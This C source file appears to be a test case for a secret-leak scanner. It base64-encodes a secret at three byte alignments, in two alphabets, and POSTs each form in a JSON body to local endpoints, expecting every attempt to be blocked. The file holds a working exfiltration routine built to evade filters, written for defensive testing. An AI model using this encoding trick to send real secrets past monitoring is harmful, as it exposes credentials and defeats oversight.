/*
 * secret_base64_body: send the secret base64-encoded in a body.
 *
 * As secret_url. The value is embedded after 0, 1 and 2 bytes of padding
 * before encoding (so it sits at each byte alignment of the base64
 * stream), in the standard and the URL-safe alphabet, inside a JSON body
 * POSTed to B and to A.
 * Proves: the scanner decodes base64 at every alignment.
 */
#include <stdio.h>
#include <string.h>

#include "attack.h"

static void b64(const unsigned char *in, size_t len, char *out, int url_safe)
{
	const char *abc =
	        url_safe ? "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	                 : "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t o = 0;

	for (size_t i = 0; i < len; i += 3) {
		unsigned v = (unsigned)in[i] << 16;
		if (i + 1 < len)
			v |= (unsigned)in[i + 1] << 8;
		if (i + 2 < len)
			v |= in[i + 2];
		out[o++] = abc[(v >> 18) & 63];
		out[o++] = abc[(v >> 12) & 63];
		out[o++] = i + 1 < len ? abc[(v >> 6) & 63] : '=';
		out[o++] = i + 2 < len ? abc[v & 63] : '=';
	}
	out[o] = '\0';
}

int main(void)
{
	const char *how, *v = learn_secret(&how);
	const char *ports[2] = {input_need("port_b"), input_need("port_a")};
	char plain[4200], enc[6000], body[6100], url[256], label[128];

	note("secret %s", how);
	for (int p = 0; p < 2; p++) {
		snprintf(url, sizeof(url), "http://127.0.0.1:%s/echo", ports[p]);
		for (int pad = 0; pad < 3; pad++) {
			for (int url_safe = 0; url_safe < 2; url_safe++) {
				size_t n = (size_t)snprintf(plain, sizeof(plain), "%.*s%s!!", pad,
				                            "xyz", v);
				b64((const unsigned char *)plain, n, enc, url_safe);
				snprintf(body, sizeof(body), "{\"data\":\"%s\"}", enc);
				snprintf(label, sizeof(label), "%s/echo base64%s(%d pad + SECRET)",
				         p ? "A" : "B", url_safe ? "url" : "", pad);
				attempt_request("POST", url, "Content-Type: application/json", body,
				                strlen(body), label);
			}
		}
	}
	blocked("every base64 spelling of the secret was refused");
}
